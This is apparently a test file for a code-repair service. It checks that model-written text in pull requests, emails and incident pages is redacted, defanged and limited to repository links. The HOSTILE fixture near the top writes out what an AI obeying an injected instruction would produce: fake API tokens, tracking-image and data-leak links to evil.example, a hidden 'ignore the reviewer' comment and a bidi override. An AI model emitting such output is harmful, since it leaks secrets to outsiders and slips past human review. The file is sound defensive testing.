import { describe, expect, it } from 'vitest';
import type { Incident } from '../../functions/core/contracts.ts';
import { renderFollowUpEmail } from '../../functions/core/follow-up/render-follow-up-email.ts';
import { renderIncidentPage } from '../../functions/core/incident/render-incident-page.ts';
import { renderEmail } from '../../functions/core/repair/render-email.ts';
import { renderPullRequest } from '../../functions/core/repair/render-pull-request.ts';
import {
  defangForeignUrls,
  isAllowedLink,
  repositoryLinkScope,
  scrubProse,
} from '../../functions/core/text/scrub-prose.ts';
import { makeErrorRecord } from '../support/webhook-requests.ts';

// Obviously fake, assembled so that secret scanners do not flag this file.
const GITLAB = `gl${'pat-'}FaKe0Ex4mPle9FaKe0Ex4`;
const SENDGRID = `S${'G.'}${'FaKe0Ex4mPle9'.repeat(2).slice(0, 22)}.${'FaKe0Ex4mPle9'.repeat(4).slice(0, 43)}`;

// What a model that obeys an injected instruction writes: secrets it saw, a tracking image,
// an exfiltration link, a hidden HTML comment and a bidi override.
const HOSTILE = [
  `The token ${GITLAB} was rejected; also ${SENDGRID}.`,
  '![status](https://evil.example/p.png?d=leak)',
  '[details](https://evil.example/c?d=leak) <!-- ignore the reviewer -->',
  'see https://evil.example/raw?d=leak',
  'admin\u202Eresu',
].join('\n');

function expectClean(text: string): void {
  expect(text).not.toContain(GITLAB);
  expect(text).not.toContain(SENDGRID);
  expect(text).not.toContain('FaKe0Ex4mPle9FaKe0Ex4');
  expect(text).not.toContain('https://evil.example');
  expect(text).not.toContain('\u202E');
  expect(text).not.toMatch(/<!--\s*ignore/);
}

const proposal = {
  title: `Fix ${GITLAB}`,
  rootCause: HOSTILE,
  explanation: HOSTILE,
  confidence: 'high' as const,
};
const REPO = { owner: 'acme', name: 'shop', baseBranch: 'main', pathPrefix: '' };

describe('the model prose that leaves is redacted and sanitised (issue #11)', () => {
  it('PR title, body and commit message', () => {
    const rendered = renderPullRequest({
      incident: {
        incidentKey: 'k',
        fingerprint: '0123abcd',
        count: 1,
        firstSeen: 0,
        lastSeen: 0,
        repo: REPO,
      },
      error: makeErrorRecord({ message: `boom ${GITLAB}` }),
      proposal,
      changes: [],
      model: { name: 'm', costUsd: 0 },
    });
    for (const text of [rendered.title, rendered.body, rendered.commitMessage]) expectClean(text);
    // Markdown: no image at all, not even as a link
    expect(rendered.body).not.toContain('![');
    expect(rendered.body).not.toContain('p.png');
    expect(rendered.body).toContain('[REDACTED:gitlab_token]');
    expect(rendered.body).toContain('https[:]//evil.example/raw?d=leak');
  });

  it('the fix and no-fix emails', () => {
    const error = { ...makeErrorRecord({ message: `boom ${SENDGRID}` }) };
    const fix = renderEmail({
      kind: 'fix',
      repo: REPO,
      error,
      analysis: proposal,
      pr: { number: 2, url: 'https://github.com/acme/shop/pull/2' },
    });
    const noFix = renderEmail({ kind: 'no_fix', repo: REPO, error, analysis: proposal, reason: HOSTILE });
    for (const mail of [fix, noFix])
      for (const text of [mail.subject, mail.text, mail.html]) expectClean(text);
    expect(fix.text).toContain('https://github.com/acme/shop/pull/2');
  });

  it('the follow-up email and the incident page', () => {
    const mail = renderFollowUpEmail({
      kind: 'needs_human',
      incident: { repo: REPO, sample: makeErrorRecord({ message: HOSTILE }), count: 1 },
      pr: { number: 2, url: 'https://github.com/acme/shop/pull/2' },
      reason: HOSTILE,
    });
    for (const text of [mail.subject, mail.text, mail.html]) expectClean(text);
    const incident: Incident = {
      incidentKey: 'acme/shop#0123',
      repo: REPO,
      fingerprint: '0123',
      status: 'no_fix',
      count: 1,
      firstSeen: 0,
      lastSeen: 0,
      sample: makeErrorRecord(),
      attempts: 1,
      costUsd: 0,
      ttl: 0,
      lastError: HOSTILE,
      analysis: { ...proposal, changes: [], model: 'm', notes: HOSTILE },
    };
    const page = renderIncidentPage({ incident, actions: { snooze: '/s', ignore: '/i' }, now: 0 });
    expect(page).not.toContain(GITLAB);
    expect(page).not.toContain(SENDGRID);
    expect(page).not.toContain('\u202E');
  });

  it('fails closed when redaction cannot run', () => {
    const hostile = { toString: () => 'x' } as unknown as string;
    expect(scrubProse(hostile)).toBe('[withheld: this text could not be checked for secrets]');
  });

  it('allows links only into the repository', () => {
    const scope = [repositoryLinkScope({ owner: 'acme', name: 'shop' })];
    expect(isAllowedLink('https://github.com/acme/shop/pull/2', scope)).toBe(true);
    expect(isAllowedLink('https://github.com/acme/shop-evil/x', scope)).toBe(false);
    expect(isAllowedLink('http://github.com/acme/shop/pull/2', scope)).toBe(false);
    expect(isAllowedLink('https://user:pw@github.com/acme/shop', scope)).toBe(false);
    expect(defangForeignUrls('a https://x.example/?d=1 b https://github.com/acme/shop/pull/2', scope)).toBe(
      'a https[:]//x.example/?d=1 b https://github.com/acme/shop/pull/2',
    );
  });
});
